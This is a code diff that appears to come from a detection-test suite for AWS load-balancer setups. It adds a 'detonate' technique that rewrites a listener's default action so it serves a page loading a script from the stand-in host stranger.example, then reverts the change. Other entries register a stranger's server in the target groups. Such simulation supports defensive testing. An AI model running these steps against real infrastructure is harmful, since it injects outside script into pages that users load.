@@ -1,8 +1,11 @@
 import { RunTaskCommand, StopTaskCommand } from '@aws-sdk/client-ecs';
 import {
+  type Action,
   DeregisterTargetsCommand,
   DescribeListenerAttributesCommand,
+  DescribeListenersCommand,
   ModifyListenerAttributesCommand,
+  ModifyListenerCommand,
   ModifyTargetGroupAttributesCommand,
   RegisterTargetsCommand,
 } from '@aws-sdk/client-elastic-load-balancing-v2';
@@ -79,6 +82,20 @@ const descriptor = (
 const STRANGERS_GROUP = 'arn:aws:elasticloadbalancing:eu-central-1:999999999999:targetgroup/theirs/1';
 
 export const SERVING_TECHNIQUES: readonly SharedTechnique[] = [
+  {
+    name: 'show a stranger’s page under names of nobody',
+    check: 'routing.listeners',
+    detonate: async ({ surroundings: { cell }, root: { elb } }) => {
+      const { listenerArn: ListenerArn } = cell;
+      const { Listeners } = await elb.send(new DescribeListenersCommand({ ListenerArns: [ListenerArn] }));
+      const put = (DefaultActions: Action[] | undefined) =>
+        elb.send(new ModifyListenerCommand({ ListenerArn, DefaultActions }));
+      const MessageBody = '<script src="https://stranger.example"></script>';
+      const FixedResponseConfig = { StatusCode: '404', ContentType: 'text/html', MessageBody };
+      await put([{ Type: 'fixed-response', FixedResponseConfig }]);
+      return { expectedEvidence: 'stranger.example', revert: () => put(Listeners?.[0]?.DefaultActions) };
+    },
+  },
   target('register a stranger’s server in the live target group', 'blue', STRANGERS_SERVER),
   target('register a stranger’s server in the idle target group', 'green', STRANGERS_SERVER),
   target('register an address of the cell’s network that no task has', 'blue', '10.0.0.99'),
